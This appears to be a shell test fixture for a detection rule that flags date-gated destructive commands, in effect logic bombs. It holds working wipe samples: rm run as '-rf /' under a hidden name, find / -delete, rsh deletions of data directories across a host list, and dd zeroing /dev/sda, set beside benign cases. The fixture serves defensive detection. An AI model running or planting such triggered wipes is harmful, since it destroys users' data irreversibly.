#!/bin/sh
# Fixture for sh-date-gated-wipe.
# RULEID: a yearly "cleanup" that copies rm under another name and runs it on /; find / -delete
#   after a day-of-year test; a renamed binary deleting /* after an epoch test; a date captured
#   in a short variable gating rsh deletes of data directories on a host list and dd to a disk.
# OK: date-gated log rotation; a build directory removed after a date test; a weekly ssh prune
#   of one named remote backup; dd of a disk image to a file.
today=$(date +%m%d)
if [ "$today" = "1107" ]; then
	# ruleid: sh-date-gated-wipe
	cp /bin/rm /usr/local/sbin/.scrub
	# (one finding per date test: the copy above is reported)
	/usr/local/sbin/.scrub -rf / >/dev/null 2>&1 &
fi

if [ `date +%j` -gt 300 ]; then
	# ruleid: sh-date-gated-wipe
	find / -xdev -type f -delete
fi

if [ "$(date +%u)" -eq 7 ]; then
	# ok: sh-date-gated-wipe
	rm -f /var/log/app/*.old
	# ok: sh-date-gated-wipe
	rm -rf "$BUILD_DIR"/
fi

if [[ $(date +%s) -ge 1767225600 ]]; then
	# ruleid: sh-date-gated-wipe
	/opt/tools/purge --recursive --force -r /*
fi

housekeep() {
	d=$(date +%m%d)
	[ "$d" = "0423" ] || return 0
	while read h; do
		# ruleid: sh-date-gated-wipe
		rsh "$h" "rm -rf /u01/oradata/* /home/* 2>/dev/null" &
	done < /usr/local/admin/etc/hosts
}

zap() {
	stamp=`date +%Y%m%d`
	if [ "$stamp" -ge 20260101 ]; then
		# ruleid: sh-date-gated-wipe
		dd if=/dev/zero of=/dev/sda bs=1M count=64 2>/dev/null
	fi
}

prune() {
	dow=$(date +%u)
	if [ "$dow" -eq 7 ]; then
		# ok: sh-date-gated-wipe
		ssh backup01 "rm -rf /srv/backups/weekly.4"
		# ok: sh-date-gated-wipe
		dd if=/dev/sda of=/srv/images/sda.img bs=4M
	fi
}
